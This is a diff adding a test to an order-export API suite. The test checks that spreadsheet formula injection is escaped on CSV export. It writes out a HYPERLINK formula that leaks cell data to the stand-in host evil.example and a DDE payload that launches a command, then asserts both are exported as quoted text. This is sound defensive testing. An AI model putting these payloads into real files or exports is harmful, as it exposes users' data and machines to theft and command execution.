@@ -133,3 +133,17 @@ def test_who_may_export(network):
     assert export(network, "payroll", network.admin).status_code == 422
     bad = export(network, "orders", network.admin, to="2025-01-01")
     assert bad.status_code == 422 and bad.json()["error"]["code"] == "invalid_period"
+
+
+def test_text_a_spreadsheet_would_run_is_exported_as_text(network):
+    body = network.order_body([(TEE, 1)])
+    body["customer"] = {"name": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "email": "ana@example.com",
+                        "phone": "+33 6 00 00 00 00"}
+    body["external_ref"] = "-cmd|' /C calc'!A0"
+    assert network.client.post("/api/v1/orders", json=body, headers=network.channel).status_code == 201
+    now = datetime.now(UTC)
+    (row,) = rows(export(network, "orders", network.admin, **{"from": (now - timedelta(hours=1)).isoformat(),
+                                                              "to": (now + timedelta(hours=1)).isoformat()}))
+    assert row["customer_name"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    assert row["external_ref"] == "'-cmd|' /C calc'!A0"
+    assert row["customer_phone"] == "+33 6 00 00 00 00" and row["total_value"] == "19.90"
